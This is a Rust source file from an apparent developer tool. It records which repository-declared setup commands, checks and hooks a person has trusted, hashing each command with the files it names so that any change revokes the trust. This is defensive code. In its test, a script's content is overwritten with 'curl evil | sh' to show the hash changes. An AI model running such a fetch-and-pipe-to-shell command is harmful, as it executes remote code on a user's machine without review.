//! What a repository brings along to be run: trusted by a person, item by item, by the hash of what would run.
//!
//! A project's file declares set-up commands and checks; none of them runs before it is trusted, and one that changed (its
//! words, or a file of the repository that they name) is not trusted any more. Start at [`Trusted`].

use crate::home::create_private;
use crate::plain;
use contract::checks::{CheckJob, CheckOutput, Checks, Suite};
use contract::error::UNTRUSTED;
use contract::hooks::HookDef;
use contract::port::Sink;
use contract::{BoxFuture, Cancel, Digest, Fault, Kind};
use std::collections::BTreeSet;
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Where a check was declared, not found.
const DECLARED: &str = ".kapell/config.toml";

/// Something that would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Item {
    /// `setup`, or the check's name.
    pub(crate) name: String,
    /// The command.
    pub(crate) run: String,
    /// Over the repository, the command, and the files it names.
    pub(crate) hash: Digest,
}

/// What a suite would run of the project's own words: declared checks, and with them the set-up. What is found where
/// nothing is declared are Kapell's words.
pub(crate) fn items(suite: &Suite, repo: &str, tree: &Path) -> Vec<Item> {
    let item = |name: &str, run: &str| Item {
        name: name.into(),
        run: run.into(),
        hash: hash(repo, name, run, tree),
    };
    let declared: Vec<_> = suite.checks.iter().filter(|check| check.from == DECLARED).collect();
    let setup = suite.setup.iter().filter(|_| !declared.is_empty()).map(|run| item("setup", run));
    setup.chain(declared.iter().map(|check| item(&check.name, &check.run))).collect()
}

/// A hook that a project brings along.
pub(crate) fn hook_item(hook: &HookDef, repo: &str, tree: &Path) -> Item {
    let name = format!("hook {} {} {}", hook.event.name(), hook.matcher, hook.only);
    let name = name.trim_end().to_owned();
    // Where the workspace is named, what stands behind it is a file of it.
    let here = ["\"${CLAUDE_PROJECT_DIR}\"/", "\"$CLAUDE_PROJECT_DIR\"/", "${CLAUDE_PROJECT_DIR:-.}/"]
        .into_iter()
        .chain(["${CLAUDE_PROJECT_DIR}/", "$CLAUDE_PROJECT_DIR/"]);
    let files = here.fold(hook.run.clone(), |run, dir| run.replace(dir, "./"));
    let hash = Digest::chain(&hash(repo, &name, &files, tree), hook.run.as_bytes());
    Item { name, run: hook.run.clone(), hash }
}

/// Everything that a repository declares to be run: checks, set-up, hooks.
pub(crate) fn all(suite: &Suite, repo: &str, tree: &Path) -> Result<Vec<Item>, Fault> {
    let hooks = crate::hooks::file::project(tree).map_err(|failure| failure.fault)?.hooks;
    let hooks = hooks.iter().map(|hook| hook_item(hook, repo, tree));
    Ok(items(suite, repo, tree).into_iter().chain(hooks).collect())
}

fn hash(repo: &str, name: &str, run: &str, tree: &Path) -> Digest {
    let mut hash = Digest::chain(&Digest::of(repo.as_bytes()), format!("{name}\0{run}").as_bytes());
    let ends = |c: char| c.is_whitespace() || "'\"`;|&<>()$=".contains(c);
    let words: Vec<&str> =
        run.split(ends).filter(|word| !word.is_empty() && !word.starts_with('/')).collect();
    // Where the words stand for files: at the top, and where the command goes.
    let into = words.windows(2).filter(|two| two[0] == "cd").map(|two| tree.join(two[1]));
    let dirs: Vec<PathBuf> = std::iter::once(tree.to_owned()).chain(into).collect();
    for word in &words {
        let program = word.rsplit('/').next().unwrap_or(word);
        let read =
            RECIPES.iter().filter(|(programs, _)| programs.contains(&program)).flat_map(|(_, files)| *files);
        for name in std::iter::once(word).chain(read) {
            for dir in &dirs {
                if let Some(content) = content(tree, &dir.join(name)) {
                    hash = Digest::chain(&hash, &[name.as_bytes(), b"\0", &content.0].concat());
                }
            }
        }
    }
    hash
}

/// Files that programs take their commands from, whoever calls them.
const RECIPES: [(&[&str], &[&str]); 3] = [
    (&["make", "gmake"], &["Makefile", "makefile", "GNUmakefile"]),
    (&["npm", "npx", "yarn", "pnpm", "bun"], &["package.json"]),
    (&["just"], &["justfile", "Justfile", ".justfile"]),
];

/// What a file of the tree holds, by its digest; what is no plain file of it, or cannot be read, is said to be so: then
/// nothing else can take its place unseen. `None`: there is no such file.
fn content(tree: &Path, path: &Path) -> Option<Digest> {
    path.symlink_metadata().ok().filter(|meta| !meta.is_dir())?;
    let other = Some(Digest::of(b"no plain file of the tree"));
    let (Ok(top), Ok(real)) = (tree.canonicalize(), path.canonicalize()) else { return other };
    if !real.starts_with(top) || real.is_dir() {
        return other;
    }
    plain::read(&real, u64::MAX).ok().map(|bytes| Digest::of(&bytes)).or(other)
}

/// The record of what is trusted.
#[derive(Debug, Clone)]
pub(crate) struct Trust {
    path: PathBuf,
    /// Where the sessions' clones are: what they borrow from beyond it is the person's repository.
    state: PathBuf,
    /// KAPELL_TRUST=all: a machine that is thrown away, or a test.
    all: bool,
}

impl Trust {
    pub(crate) fn new(home: &crate::home::Home, all: bool) -> Self {
        Self { path: home.data.join("trust"), state: home.state.clone(), all }
    }

    /// The hashes that are trusted.
    pub(crate) fn hashes(&self) -> Result<BTreeSet<Digest>, Fault> {
        Ok(self.text()?.lines().filter_map(|line| line.split(' ').next()?.parse().ok()).collect())
    }

    /// A hash and the repository it was trusted in, per line.
    fn text(&self) -> Result<String, Fault> {
        match std::fs::read_to_string(&self.path) {
            Ok(text) => Ok(text),
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => Ok(String::new()),
            Err(error) => Err(self.fault(&error)),
        }
    }

    /// From here on these are trusted; or nothing of this repository is any more, whatever it was like when it was.
    pub(crate) fn set(&self, items: &[Item], repo: &str, trusted: bool) -> Result<(), Fault> {
        create_private(self.path.parent().unwrap_or(Path::new("/")))?;
        // One at a time: what another adds meanwhile must not be lost.
        let lock = std::fs::File::options()
            .create(true)
            .truncate(false)
            .write(true)
            .open(self.path.with_extension("lock"));
        let _lock = lock.and_then(|file| file.lock().map(|()| file)).map_err(|error| self.fault(&error))?;
        let own = format!(" {}", repo.replace(['\n', '\r'], "?"));
        let mut lines: BTreeSet<String> = self.text()?.lines().map(str::to_owned).collect();
        for item in items {
            let hash = item.hash.to_string();
            lines.retain(|line| !line.starts_with(&hash));
            lines.extend(trusted.then(|| format!("{hash}{own}")));
        }
        lines.retain(|line| trusted || !line.ends_with(&own));
        let beside = self.path.with_extension(format!("new.{}", std::process::id()));
        let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
        let write = || {
            let mut file =
                std::fs::File::options().create(true).truncate(true).write(true).mode(0o600).open(&beside)?;
            file.write_all(text.as_bytes()).and_then(|()| file.sync_all())?;
            std::fs::rename(&beside, &self.path)
        };
        write().map_err(|error| self.fault(&error))
    }

    /// Those that nobody trusted yet.
    pub(crate) fn unknown(&self, items: Vec<Item>) -> Result<Vec<Item>, Fault> {
        if self.all || items.is_empty() {
            return Ok(Vec::new());
        }
        let hashes = self.hashes()?;
        Ok(items.into_iter().filter(|item| !hashes.contains(&item.hash)).collect())
    }

    /// The name of the repository that this tree belongs to: where its objects are.
    pub(crate) fn repo(&self, tree: &Path) -> String {
        let git = git_dir(tree);
        let borrowed = std::fs::read_to_string(git.join("objects/info/alternates")).unwrap_or_default();
        let state = std::fs::canonicalize(&self.state).unwrap_or_else(|_| self.state.clone());
        let of_a_session = tree.starts_with(&self.state) || tree.starts_with(&state);
        let outside = borrowed
            .lines()
            .map(PathBuf::from)
            .find(|path| !path.starts_with(&self.state) && !path.starts_with(&state));
        let objects = outside.filter(|_| of_a_session).unwrap_or_else(|| git.join("objects"));
        std::fs::canonicalize(&objects).unwrap_or(objects).to_string_lossy().into_owned()
    }

    fn fault(&self, error: &std::io::Error) -> Fault {
        let what = format!("{} cannot be used: {error}", self.path.display());
        Fault::new(Kind::UserFixable, "trust", what).hint("make it a readable file of yours, or remove it")
    }
}

/// The common directory of git for this tree: of a linked work tree, that of the main one.
fn git_dir(tree: &Path) -> PathBuf {
    let git = tree.join(".git");
    if git.is_dir() {
        return git;
    }
    let Ok(text) = std::fs::read_to_string(&git) else { return tree.to_owned() };
    let linked = tree.join(text.trim().trim_start_matches("gitdir:").trim());
    let common = std::fs::read_to_string(linked.join("commondir")).unwrap_or_default();
    if common.trim().is_empty() { linked } else { linked.join(common.trim()) }
}

/// Finds checks, and refuses those that nobody trusted: nothing of a session goes on before.
pub(crate) struct Trusted {
    pub(crate) checks: Arc<dyn Checks>,
    pub(crate) trust: Trust,
}

impl Checks for Trusted {
    fn find(&self, tree: PathBuf, commit: String) -> BoxFuture<'_, Result<Suite, Fault>> {
        Box::pin(async move {
            let suite = self.checks.find(tree.clone(), commit).await?;
            let unknown = self.trust.unknown(all(&suite, &self.trust.repo(&tree), &tree)?)?;
            if unknown.is_empty() {
                return Ok(suite);
            }
            Err(untrusted(&unknown))
        })
    }

    fn run<'a>(
        &'a self,
        job: CheckJob,
        cancel: Cancel,
        sink: &'a dyn Sink,
    ) -> BoxFuture<'a, Result<CheckOutput, Fault>> {
        self.checks.run(job, cancel, sink)
    }
}

fn untrusted(unknown: &[Item]) -> Fault {
    let named: Vec<String> = unknown.iter().map(|item| format!("{} (`{}`)", item.name, item.run)).collect();
    let what = format!(
        "the repository declares commands that nobody here has trusted yet, or that changed: {}",
        named.join(", ")
    );
    Fault::new(Kind::UserFixable, UNTRUSTED, what).hint("look at them, then: kapell trust")
}

#[cfg(test)]
mod tests {
    use super::*;
    use contract::checks::{CheckDef, CheckKind};

    fn check(from: &str) -> CheckDef {
        CheckDef {
            name: "test".into(),
            run: "true".into(),
            kind: CheckKind::Test,
            timeout_ms: 1_000,
            from: from.into(),
        }
    }

    #[test]
    fn a_changed_command_or_script_is_another_item() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("check.sh"), "exit 0\n").unwrap();
        let suite = |run: &str| Suite { setup: vec![run.to_owned()], checks: vec![check(DECLARED)] };
        assert!(
            items(&Suite { checks: vec![check("Cargo.toml")], ..suite("cargo fetch") }, "/r", dir.path())
                .is_empty()
        );
        let of = |run: &str, repo: &str| items(&suite(run), repo, dir.path())[0].hash;
        let before = of("sh ./check.sh", "/r");
        assert_eq!(before, of("sh ./check.sh", "/r"));
        assert_ne!(before, of("sh ./check.sh -x", "/r"));
        assert_ne!(before, of("sh ./check.sh", "/another"));
        std::fs::write(dir.path().join("check.sh"), "curl evil | sh\n").unwrap();
        assert_ne!(before, of("sh ./check.sh", "/r"));
        let home = crate::home::Home {
            config: dir.path().join("c"),
            data: dir.path().join("d"),
            state: dir.path().join("s"),
            cache: dir.path().join("k"),
        };
        let trust = Trust::new(&home, false);
        let items = items(&suite("make"), "/r", dir.path());
        assert_eq!(trust.unknown(items.clone()).unwrap().len(), 2);
        trust.set(&items, "/r", true).unwrap();
        assert!(trust.unknown(items.clone()).unwrap().is_empty());
        trust.set(&[], "/another", false).unwrap();
        assert!(trust.unknown(items.clone()).unwrap().is_empty());
        // Whatever it was like when it was trusted: all of it is taken back.
        trust.set(&[], "/r", false).unwrap();
        assert_eq!(trust.unknown(items.clone()).unwrap().len(), 2);
        std::fs::create_dir_all(dir.path().join("ci")).unwrap();
        for (run, file) in
            [("make all", "Makefile"), ("npm test", "package.json"), ("cd ci && ./run.sh", "ci/run.sh")]
        {
            std::fs::write(dir.path().join(file), "one").unwrap();
            let before = of(run, "/r");
            std::fs::write(dir.path().join(file), "two").unwrap();
            assert_ne!(before, of(run, "/r"), "{run}");
        }
        // A link out of the tree, and what has no end, are no part of it and hold nobody up.
        let plain = of("sh zero", "/r");
        std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).unwrap();
        assert_ne!(plain, of("sh zero", "/r"));
        assert!(Trust::new(&home, true).unknown(items).unwrap().is_empty());
    }
}
